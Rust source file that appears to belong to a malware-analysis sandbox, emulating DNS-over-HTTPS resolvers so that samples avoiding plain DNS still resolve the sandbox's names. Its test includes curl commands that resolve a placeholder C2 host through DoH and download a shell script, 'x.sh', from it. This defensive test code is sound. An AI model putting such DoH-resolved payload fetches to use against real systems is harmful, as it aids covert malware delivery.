//! DNS over HTTPS, so that a sample that avoids plain DNS finds the same names: the wire format, and the JSON of the large resolvers.
//!
//! Source: RFC 8484; "JSON API for DNS over HTTPS", developers.google.com.

use base64::prelude::*;
use serde_json::json;

use super::{
    super::{marks::percent_decoded, service::Talk},
    dns,
    http::{Request, Response},
};

/// Answers on the resolvers' paths.
pub(in super::super) fn answer(request: &Request, talk: &mut Talk<'_>) -> Option<Response> {
    if !matches!(request.path.as_str(), "/dns-query" | "/resolve") {
        return None;
    }
    let parameter = |name: &str| {
        let pairs = request.query.split('&').filter_map(|pair| pair.split_once('='));
        let value = pairs.filter(|(key, _)| *key == name).map(|(_, value)| value).next().unwrap_or_default();
        String::from_utf8_lossy(&percent_decoded(value.as_bytes())).into_owned()
    };
    let name = parameter("name");
    if !name.is_empty() {
        let kind = match parameter("type").to_ascii_uppercase().as_str() {
            "" | "A" => 1,
            "AAAA" => 28,
            "TXT" => 16,
            "MX" => 15,
            "NS" => 2,
            other => other.parse().unwrap_or(1),
        };
        let (code, records) = dns::lookup(&name, kind, talk.flow, talk.world);
        let answers: Vec<_> =
            records.iter().map(|(kind, text)| json!({"name": name, "type": kind, "TTL": 60, "data": text})).collect();
        let question = json!([{"name": name, "type": kind}]);
        let body =
            json!({"Status": code, "TC": false, "RD": true, "RA": true, "Question": question, "Answer": answers});
        return Some(Response { kind: "application/dns-json", ..Response::json("dns", &body) });
    }
    let query = match parameter("dns") {
        encoded if !encoded.is_empty() => BASE64_URL_SAFE_NO_PAD.decode(encoded.trim_end_matches('=')).ok()?,
        _ => request.body.clone(),
    };
    let answer = dns::answer(&query, talk.flow, talk.world)?;
    Some(Response::new(200, "dns", "application/dns-message", answer))
}

#[cfg(test)]
mod tests {
    use model::What;

    use crate::internet::testing::{run, shell};

    #[test]
    fn both_dresses_lead_to_the_same_names() {
        let (events, _) = run(|guest| {
            let ca = guest.authority.display();
            let said = shell(&format!(
                "curl -sS --max-time 10 --cacert {ca} 'https://dns.example/resolve?name=c2.example&type=A'"
            ));
            assert!(said.contains("\"Status\":0") && said.contains("198.1"), "{said}");
            let resolved = shell(
                "curl -sS --max-time 10 --doh-insecure --doh-url https://203.0.113.53/dns-query http://c2.example/x.sh",
            );
            assert!(resolved.contains("#!/bin/sh"), "{resolved}");
        });
        let asked = events.iter().filter(
            |event| matches!(event, What::Dns { name, answer, .. } if name == "c2.example" && !answer.is_empty()),
        );
        assert!(asked.count() >= 2, "{events:#?}");
    }
}
